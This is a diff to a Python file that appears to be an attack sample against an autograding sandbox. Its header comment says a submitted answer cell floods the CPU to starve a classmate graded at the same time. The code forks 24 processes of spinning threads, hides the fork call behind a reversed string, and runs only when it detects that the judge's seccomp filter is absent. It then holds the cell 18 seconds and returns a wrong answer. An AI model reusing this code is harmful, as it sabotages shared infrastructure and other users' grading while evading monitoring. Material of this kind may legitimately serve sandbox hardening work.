@@ -1,4 +1,4 @@
-# a CPU flood from the grading kernel against the classmate graded at the same time on the other slot (its kernel and judge) since each box has a CPU cgroup: the answer cell forks 24 processes of 8 spinning threads each that outlive the cell (they run until the box closes, at most 10 min), then returns a wrong kv_admission
+# a CPU flood from the grading kernel against the classmate graded at the same time on the other slot (its kernel and judge) now that each box has a CPU cgroup: the answer cell forks 24 processes of 8 spinning threads each (fork reached through operator.attrgetter) and holds the cell 18 s while they spin; kv_admission is wrong
 # target: ex06_2
 import operator
 import os
@@ -21,7 +21,7 @@ def _hog(seconds):
     until = time.time() + seconds
     for _ in range(24):
         try:
-            pid = operator.attrgetter("kr"[::-1] + "of"[::-1])(os)()
+            pid = operator.attrgetter("krof"[::-1])(os)()
         except OSError:
             break
         if pid == 0:
@@ -37,5 +37,8 @@ def _hog(seconds):
 with open("/proc/self/status") as _f:
     _judged = any(line.split() == ["Seccomp:", "2"] for line in _f)
 if not _judged:
+    _t0 = time.time()
     _hog(600)
     print("24 spinning processes started at", time.strftime("%H:%M:%S"))
+    while time.time() < _t0 + 18:  # the box lives while the cell runs
+        time.sleep(0.5)
